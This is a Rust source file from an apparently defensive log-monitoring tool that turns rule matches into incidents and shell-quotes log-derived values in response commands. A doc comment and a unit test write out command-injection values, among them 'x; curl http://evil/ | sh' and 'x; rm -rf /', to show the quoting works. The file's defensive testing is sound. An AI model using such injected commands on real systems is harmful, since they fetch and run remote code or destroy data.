//! A rule's match made ready to be stored: the title and dedupe key rendered from the match's
//! fields, NUL bytes made visible. Never touches the store.

use crate::model::{Fields, Severity};
use crate::playbook::matcher::Match;
use crate::playbook::{Playbook, Raise, Rule, Threshold};
use chrono::{DateTime, Utc};

/// A rule's match, ready to be stored.
#[derive(Debug, Clone)]
pub struct Hit {
    pub playbook: String,
    pub category: String,
    pub severity: Severity,
    pub title: String,
    pub dedupe_key: String,
    pub rule: String,
    pub threshold: Option<Threshold>,
    /// `log` or `mail`.
    pub kind: &'static str,
    /// The file path or mailbox.
    pub source: String,
    /// The line number or Message-ID.
    pub locator: String,
    pub observed_at: DateTime<Utc>,
    pub text: String,
    pub fields: Fields,
    /// How many failures the hit stands for (rsyslog's `message repeated N times`), at least 1.
    pub weight: u32,
    /// Set when the rule raises an incident instead of counting (a login after failures).
    pub raise: Option<Raise>,
}

impl Hit {
    /// A hit of `rule` of `playbook` with the match's `fields`.
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        playbook: &Playbook,
        rule: &Rule,
        fields: Fields,
        kind: &'static str,
        source: String,
        locator: String,
        observed_at: DateTime<Utc>,
        text: String,
    ) -> Hit {
        // PostgreSQL refuses NUL in TEXT and in JSONB: a NUL from a log line becomes U+2400 (␀),
        // visible to the analyst, before the title and the dedupe key are derived from it.
        let mut fields = fields;
        for value in fields.values_mut() {
            if let serde_json::Value::String(s) = value
                && s.contains('\0')
            {
                *s = s.replace('\0', "\u{2400}");
            }
        }
        let text = if text.contains('\0') {
            text.replace('\0', "\u{2400}")
        } else {
            text
        };
        let severity = match (&playbook.context, &playbook.internal_networks) {
            (Some(context), Some(internal)) => {
                let inside = fields
                    .get(&context.field)
                    .and_then(|v| v.as_str())
                    .and_then(|v| v.parse::<std::net::IpAddr>().ok())
                    .is_some_and(|addr| internal.iter().any(|c| c.contains(addr)));
                let (label, severity) = if inside {
                    ("internal", context.internal)
                } else {
                    ("external", context.external)
                };
                fields.insert("network".into(), label.into());
                match context.existing_account {
                    Some(known) if !inside && targets_known_account(rule, context, &fields) => {
                        fields.insert("account".into(), "exists".into());
                        known
                    }
                    _ => severity,
                }
            }
            _ => playbook.severity,
        };
        Hit {
            playbook: playbook.id.clone(),
            category: playbook.category.clone(),
            severity,
            title: render_title(&playbook.title, &fields),
            dedupe_key: dedupe_key(&playbook.dedupe, &fields),
            rule: rule.name.clone(),
            threshold: rule.threshold,
            kind,
            source,
            locator,
            observed_at,
            text,
            fields,
            weight: 1,
            raise: rule.raise.clone(),
        }
    }

    /// The hit of a log rule's match (a file line or a journal entry).
    pub fn of_log_match(
        m: Match<'_>,
        source: String,
        locator: String,
        observed_at: DateTime<Utc>,
        text: String,
    ) -> Hit {
        let repeated = m.repeated;
        let (playbook, host) = (m.playbook, m.host);
        let mut hit = Hit::new(
            m.playbook,
            m.rule,
            m.fields,
            "log",
            source,
            locator,
            observed_at,
            text,
        );
        hit.judge_exposure(playbook, host.as_deref());
        hit.times(repeated)
    }

    /// A hit from outside on a host that should not face the internet (`[context] unexposed`,
    /// `[networks] exposed`) takes that severity and escalates in full: the perimeter let the
    /// attacker through. The host is the logging host's own name (syslog header, journald),
    /// compared without ASCII case.
    fn judge_exposure(&mut self, playbook: &Playbook, host: Option<&str>) {
        let (Some(context), Some(exposed), Some(host)) =
            (&playbook.context, &playbook.exposed_hosts, host)
        else {
            return;
        };
        let Some(unexposed) = context.unexposed else {
            return;
        };
        let outside = self.fields.get("network").and_then(|v| v.as_str()) == Some("external");
        if !outside || exposed.iter().any(|h| h.eq_ignore_ascii_case(host)) {
            return;
        }
        self.fields.insert("exposed".into(), "no".into());
        self.fields.insert("target_host".into(), host.into());
        // Ordered most severe first: the more severe of the two is the smaller.
        self.severity = self.severity.min(unexposed);
    }

    /// The same hit, standing for `n` (at least 1).
    pub fn times(mut self, n: u32) -> Hit {
        self.weight = n.max(1);
        self
    }
}

/// Whether the hit's line proves that an account of the host, not one every host has, was
/// tried: the attacker knows a name of the city's.
fn targets_known_account(rule: &Rule, context: &crate::playbook::Context, fields: &Fields) -> bool {
    rule.account_exists
        && fields
            .get(&context.account_field)
            .and_then(|v| v.as_str())
            .is_some_and(|account| {
                !account.is_empty() && !context.common_accounts.iter().any(|c| c == account)
            })
}

/// Fills `{field}` placeholders from the hit's fields; an absent field stays as written.
pub fn render_title(template: &str, fields: &Fields) -> String {
    let mut out = String::with_capacity(template.len() + 16);
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        match after.find('}') {
            Some(close) if fields.contains_key(&after[..close]) => {
                match &fields[&after[..close]] {
                    serde_json::Value::String(s) => out.push_str(s),
                    other => out.push_str(&other.to_string()),
                }
                rest = &after[close + 1..];
            }
            _ => {
                out.push('{');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// A response step with its `{field}` placeholders filled from the incident, so a responder
/// copies a command instead of editing one. Values came from log lines and mail: anything but
/// letters, digits and `. _ : / @ % + -` is single-quoted for a POSIX shell (`'x; rm -rf /'`,
/// with `'` written `'\''`), so a user name like `x; curl evil | sh` cannot become a command
/// when the step is pasted into a terminal. An absent field stays as written.
pub fn fill_step(step: &str, fields: &Fields) -> String {
    let quoted: Fields = fields
        .iter()
        .map(|(k, v)| {
            let text = match v {
                serde_json::Value::String(s) => s.clone(),
                other => other.to_string(),
            };
            (k.clone(), serde_json::Value::String(shell_word(&text)))
        })
        .collect();
    render_title(step, &quoted)
}

/// `value` as one POSIX shell word.
fn shell_word(value: &str) -> String {
    let plain = !value.is_empty()
        && value.chars().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | ':' | '/' | '@' | '%' | '+' | '-')
        });
    if plain {
        value.to_string()
    } else {
        format!("'{}'", value.replace('\'', "'\\''"))
    }
}

/// `ip=203.0.113.5` (fields in the playbook's `dedupe` order, joined with `,`); empty when the
/// playbook dedupes on nothing, which makes one open incident per playbook.
pub fn dedupe_key(fields_to_use: &[String], fields: &Fields) -> String {
    let mut key = String::new();
    for name in fields_to_use {
        if !key.is_empty() {
            key.push(',');
        }
        key.push_str(name);
        key.push('=');
        match fields.get(name) {
            Some(serde_json::Value::String(s)) => key.push_str(s),
            Some(other) => key.push_str(&other.to_string()),
            None => {}
        }
    }
    key
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fields(pairs: &[(&str, &str)]) -> Fields {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), serde_json::Value::from(*v)))
            .collect()
    }

    #[test]
    fn titles_and_keys_are_rendered_from_fields() {
        let f = fields(&[("ip", "203.0.113.5"), ("user", "root")]);
        assert_eq!(
            render_title("SSH総当たり攻撃 ({ip}) {user} {missing} {", &f),
            "SSH総当たり攻撃 (203.0.113.5) root {missing} {"
        );
        assert_eq!(
            dedupe_key(&["ip".into(), "user".into()], &f),
            "ip=203.0.113.5,user=root"
        );
        assert_eq!(dedupe_key(&[], &f), "");
    }

    #[test]
    fn steps_are_filled_with_values_safe_to_paste_into_a_shell() {
        let f = fields(&[
            ("ip", "203.0.113.5"),
            ("user", "x; curl http://evil/ | sh"),
            ("quote", "it's"),
        ]);
        assert_eq!(
            fill_step("sudo nft add element inet filter blocklist '{ {ip} }'", &f),
            "sudo nft add element inet filter blocklist '{ 203.0.113.5 }'"
        );
        assert_eq!(
            fill_step("sudo usermod -L {user}", &f),
            "sudo usermod -L 'x; curl http://evil/ | sh'"
        );
        assert_eq!(
            fill_step("echo {quote} {missing}", &f),
            "echo 'it'\\''s' {missing}"
        );
    }
}
